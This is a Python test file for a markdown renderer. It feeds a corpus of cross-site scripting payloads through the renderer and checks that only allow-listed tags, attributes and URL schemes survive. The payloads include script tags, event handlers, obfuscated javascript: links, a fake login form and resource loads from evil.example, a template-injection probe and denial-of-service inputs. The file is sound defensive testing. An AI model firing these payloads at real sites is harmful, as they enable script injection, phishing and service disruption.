"""No text that a person can write becomes anything live in a page."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.core import markdown

HARMLESS_TAGS = {
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
HARMLESS_ATTRIBUTES = {
    "class",
    "id",
    "href",
    "title",
    "src",
    "alt",
    "width",
    "height",
    "scope",
    "start",
    "tabindex",
    "rel",
    "data-language",
    "data-executed",
}
CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://hub.example/1)",
    '[x](https://example.com "onmouseover=alert(1)")',
    '[x](https://example.com/"onmouseover="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: <data:text/html,<script>alert(1)</script>>",
    "<javascript:alert(1)>",
    "<https://example.com/<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x" onerror="alert(1)](/media/a.png)',
    '![x](/media/a.png "x\\" onerror=\\"alert(1)")',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onmouseover="alert(1)\nx\n```',
    "```python raises=<img/src/onerror=alert(1)>\nx\n```",
    "    <script>alert(1)</script>",
    '!!! note "<script>alert(1)</script>"\n    x',
    '!!! note" onmouseover="alert(1)\n    x',
    '!!! site-header visually-hidden "x"\n    hidden',
    '??? "onclick=alert(1)"\n    x',
    "### <img src=x onerror=alert(1)>",
    '### "><script>alert(1)</script>',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "- <svg/onload=alert(1)>",
    "Term\n: <script>alert(1)</script>",
    "~~<script>alert(1)</script>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='https://example.com' onclick='alert(1)'>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


class Elements(HTMLParser):
    """Every element of a piece of HTML, as a browser's tokenizer sees it."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def assert_nothing_live(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in HARMLESS_TAGS, html
        assert set(attributes) <= HARMLESS_ATTRIBUTES, html
        if "href" in attributes:
            assert urlsplit(attributes["href"]).scheme in {"", "http", "https", "mailto"}, html
        if "src" in attributes:
            assert attributes["src"].startswith("/media/"), html


@pytest.mark.parametrize("text", CORPUS)
def test_hostile_markdown_renders_to_nothing_live(text):
    assert_nothing_live(markdown.render(text))
    assert_nothing_live(markdown.render(f"Before.\n\n{text}\n\nAfter.", prefix="deep-dive"))


@pytest.mark.parametrize("text", CORPUS)
def test_a_hostile_line_renders_to_nothing_live(text):
    assert_nothing_live(markdown.render_inline(text))


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("language", ["", "html", "python", "javascript", "no-such-language"])
def test_hostile_code_renders_to_nothing_live(text, language):
    assert_nothing_live(markdown.code_figure(text, language))


@pytest.mark.parametrize("text", CORPUS)
def test_the_allow_list_stops_hostile_html_by_itself(text):
    assert_nothing_live(markdown.sanitise(text))


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from([*CORPUS, "\n", "\n\n", "```\n", "    ", "> ", "- ", "| ", "[", "](", ")", '"']),
        max_size=6,
    )
)
def test_no_mixture_of_them_is_live(pieces):
    assert_nothing_live(markdown.render("".join(pieces)))


def test_raw_html_stays_visible_as_text():
    assert "&lt;script&gt;" in markdown.render("<script>alert(1)</script>")


@pytest.mark.parametrize(
    "address", ["https://elsewhere.example/a.png", "//elsewhere.example/a.png", "/other/a.png", "a.png"]
)
def test_an_image_from_elsewhere_loads_nothing_and_keeps_its_words(address):
    html = markdown.render(f"![A diagram]({address})")
    assert "src=" not in html
    assert "A diagram" in html


def test_an_image_of_the_house_is_shown():
    assert 'src="/media/figures/a.png"' in markdown.render("![A diagram](/media/figures/a.png)")


def test_a_writer_gives_no_class_to_the_page():
    html = markdown.render('!!! visually-hidden site-header "Title"\n    Words.')
    assert 'class="admonition note"' in html
    assert "visually-hidden" not in html


def test_a_writer_gives_no_inline_style_to_the_page():
    html = markdown.render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert "style=" not in html
    assert 'class="to-center"' in html
    assert 'class="to-right"' in html


# Texts that once took other renderers, or one of the lexers, quadratic time and more; each must end.
HUGE = {
    "brackets": "[" * 60_000,
    "images": "![" * 30_000,
    "stars": "**a " * 15_000,
    "mixed emphasis": "*x _y " * 10_000,
    "backticks": "`a``" * 15_000,
    "quotes": ">" * 60_000,
    "nested lists": "> - " * 15_000,
    "indented lists": "\n".join(" " * (2 * depth) + "- a" for depth in range(200)),
    "links": "[a](" * 15_000,
    "references": "[a]: b\n" * 8_500,
    "reference uses": "[a]: b\n\n" + "[a][" * 14_000,
    "tags": "<a " * 20_000,
    "comments": "<!--" * 15_000,
    "entities": "&#" * 30_000,
    "tables": "|a|b|\n|-|-|\n" * 4_500,
    "wide table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n",
    "fences": "```\n" * 15_000,
    "headings": "### a\n" * 10_000,
    "definitions": "a\n: " * 15_000,
    "admonitions": "!!! note\n    " * 4_500,
    "blank lines of C": "```c\n" + "\n" * 59_000 + "x\n```",
    "blanks of Java": "```java\n" + "a " * 29_000 + "\n```",
    "dots of TypeScript": "```typescript\n" + "a." * 29_000 + "\n```",
    "many blocks of C": ("```c\n" + "\n" * 3_900 + "x\n```\n") * 15,
}


@pytest.mark.parametrize("text", HUGE.values(), ids=HUGE.keys())
def test_a_huge_text_comes_to_an_end(text):
    assert_nothing_live(markdown.render(text))
    markdown.plain_text(text)


def test_a_text_beyond_the_bound_is_refused():
    with pytest.raises(ValueError, match="at most"):
        markdown.render("a" * (markdown.MAX_CHARACTERS + 1))
